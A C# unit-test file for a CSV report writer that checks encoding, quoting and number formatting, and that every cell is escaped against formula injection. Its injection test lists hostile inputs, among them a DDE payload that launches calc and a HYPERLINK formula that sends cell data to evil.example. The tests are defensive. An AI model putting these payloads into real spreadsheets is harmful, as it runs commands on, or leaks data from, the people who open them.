using System.Text;
using Hkall.Service.Web;

namespace Hkall.Service.Tests.Reports;

/// <summary>What a spreadsheet gets.</summary>
public class CsvReportTests
{
    [Fact]
    public void A_csv_report_begins_with_the_mark_that_Excel_needs_for_Chinese() =>
        Write("紅樓夢").ShouldStartWith("\uFEFFtext\r\n紅樓夢\r\n");

    [Theory]
    [InlineData("=1+1")]
    [InlineData("+852 2616 8888")]
    [InlineData("-2")]
    [InlineData("@SUM(A1)")]
    [InlineData("  =cmd|' /C calc'!A0")]
    [InlineData("\t=1")]
    [InlineData("\n=1")]
    [InlineData("|calc")]
    [InlineData("%0A=1")]
    [InlineData("＝1+1")]
    [InlineData("＋852")]
    [InlineData("－2")]
    [InlineData("＠SUM(A1)")]
    [InlineData("\u3000＝1+1")]
    [InlineData("=HYPERLINK(\"https://evil.example?\"&A1)")]
    public void A_text_is_never_run_as_a_formula(string text) => Write(text).Split("\r\n", 2)[1].TrimStart('"').ShouldStartWith("'");

    [Fact]
    public void A_number_below_nought_is_a_number() => Write(-3).ShouldEndWith("\r\n-3\r\n");

    [Fact]
    public void Commas_quotes_and_line_breaks_stay_in_their_cell() => Write("a \"b\", c\nd").ShouldEndWith("\r\n\"a \"\"b\"\", c\nd\"\r\n");

    [Fact]
    public void Nothing_to_tell_is_an_empty_cell_and_days_and_shares_read_the_same_everywhere()
    {
        var bytes = CsvReport.Write(["a", "b", "c"], [[null, new DateOnly(2026, 11, 23), 66.7m]]);

        Encoding.UTF8.GetString(bytes).ShouldEndWith("\r\n,2026-11-23,66.7\r\n");
    }

    private static string Write(object? cell) => Encoding.UTF8.GetString(CsvReport.Write(["text"], [[cell]]));
}
